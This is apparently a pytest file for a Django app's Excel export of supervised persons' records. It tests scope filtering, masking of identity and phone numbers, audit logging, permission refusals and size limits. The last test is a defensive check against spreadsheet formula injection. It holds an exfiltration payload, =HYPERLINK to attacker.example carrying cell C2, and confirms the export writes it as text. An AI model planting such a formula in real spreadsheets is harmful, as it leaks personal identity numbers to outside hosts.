"""Export of the filtered list: only the scope, masked unless asked and allowed, always audited."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhengtu.audit.models import Action, AuditEntry
from zhengtu.audit.services import Actor
from zhengtu.supervisees.importing import import_supervisees
from zhengtu.supervisees.models import Supervisee
from zhengtu.testing.factories import make_supervisee

pytestmark = pytest.mark.django_db


def sheet_rows(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_export_contains_only_the_scope_and_the_filter_and_is_audited(client, login, world) -> None:  # type: ignore[no-untyped-def]
    zhang = make_supervisee(world.office_a, name="张三", supervision_level="strict")
    make_supervisee(world.office_a, name="王五")
    make_supervisee(world.office_b, name="李四", supervision_level="strict")
    login(client, world.officer_a)
    response = client.get(reverse("supervisees:export"), {"supervision_level": "strict"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = sheet_rows(response.content)
    assert rows[0][:3] == ["姓名", "曾用名", "身份证号"]
    assert [r[0] for r in rows[1:]] == ["张三"]
    assert rows[1][2] == zhang.identity_number_masked
    entry = AuditEntry.objects.get(action=Action.EXPORT)
    assert entry.username == world.officer_a.username
    assert entry.detail["filters"] == {"supervision_level": "strict"}
    assert (entry.detail["rows"], entry.detail["full_identity"]) == (1, False)


def test_full_identity_numbers_only_when_ticked_and_allowed(client, login, world) -> None:  # type: ignore[no-untyped-def]
    zhang = make_supervisee(world.office_a, name="张三", phone="13812345678")
    login(client, world.officer_a)
    rows = sheet_rows(client.get(reverse("supervisees:export")).content)
    assert (rows[1][2], rows[1][7]) == (zhang.identity_number_masked, "138****5678")
    rows = sheet_rows(client.get(reverse("supervisees:export"), {"full_identity": "on"}).content)
    assert (rows[1][2], rows[1][7]) == (zhang.identity_number, "13812345678")
    entries = AuditEntry.objects.filter(action=Action.EXPORT).order_by("sequence")
    assert [e.detail["full_identity"] for e in entries] == [False, True]


def test_identity_number_search_is_not_copied_into_the_audit_log(client, login, world) -> None:  # type: ignore[no-untyped-def]
    zhang = make_supervisee(world.office_a, name="张三")
    login(client, world.officer_a)
    client.get(reverse("supervisees:export"), {"q": zhang.identity_number})
    entry = AuditEntry.objects.get(action=Action.EXPORT)
    assert zhang.identity_number not in str(entry.detail) and entry.detail["rows"] == 1


def test_export_reads_back_as_an_import(world, divisions) -> None:  # type: ignore[no-untyped-def]
    from zhengtu.orgs.models import Division
    from zhengtu.supervisees.exporting import export_supervisees
    from zhengtu.supervisees.selectors import SuperviseeFilters

    make_supervisee(
        world.office_a, name="张三", residence_division=Division.objects.get(code="431224"), term_extra_days=3
    )
    content = export_supervisees(
        actor=Actor(user=world.officer_a), user=world.officer_a, filters=SuperviseeFilters(), full_identity=True
    )
    Supervisee.objects.all().delete()
    result = import_supervisees(actor=Actor(user=world.officer_a), file_name="back.xlsx", content=content)
    assert result.errors == [] and result.ignored_headers == ["矫正期满日期", "居住地", "负责人"]
    person = Supervisee.objects.get()
    assert (person.name, person.residence_division_id, person.term_extra_days) == ("张三", "431224", 3)


def test_export_without_the_capabilities(client, login, world) -> None:  # type: ignore[no-untyped-def]
    make_supervisee(world.office_a)
    login(client, world.social_worker_a)
    assert client.get(reverse("supervisees:export")).status_code == 403
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_the_service_refuses_clear_numbers_without_the_reveal_capability(world) -> None:  # type: ignore[no-untyped-def]
    from django.core.exceptions import PermissionDenied

    from zhengtu.supervisees.exporting import export_supervisees
    from zhengtu.supervisees.selectors import SuperviseeFilters

    with pytest.raises(PermissionDenied):
        export_supervisees(
            actor=Actor(user=world.social_worker_a),
            user=world.social_worker_a,
            filters=SuperviseeFilters(),
            full_identity=True,
        )
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_too_large_an_export_is_refused_with_a_message(client, login, world, settings) -> None:  # type: ignore[no-untyped-def]
    settings.ZHENGTU_SUPERVISEES_EXPORT_MAX_ROWS = 1
    make_supervisee(world.office_a)
    make_supervisee(world.office_a)
    login(client, world.officer_a)
    response = client.get(reverse("supervisees:export"), {"status": "pending_intake"}, follow=True)
    assert "缩小筛选范围" in response.content.decode()
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_a_name_written_as_a_formula_is_exported_as_text_with_a_note(client, login, world) -> None:  # type: ignore[no-untyped-def]
    """Issue 16, high 3: `=HYPERLINK(…&C2…)` in a full-identity export would send the identity number away."""
    attack = '=HYPERLINK("http://attacker.example/?"&C2,"点击")'
    make_supervisee(world.office_a, name=attack, crime="@SUM(1)")
    login(client, world.officer_a)
    content = client.get(reverse("supervisees:export"), {"full_identity": "on"}).content
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for row in workbook.worksheets[0].iter_rows(min_row=2) for cell in row]
    name = next(cell for cell in cells if cell.value == attack)
    assert name.data_type == "s"  # text, not a formula
    assert all(cell.data_type != "f" for cell in cells)
    assert "=" in str(workbook["导出说明"]["A1"].value) and "公式" in str(workbook["导出说明"]["A1"].value)
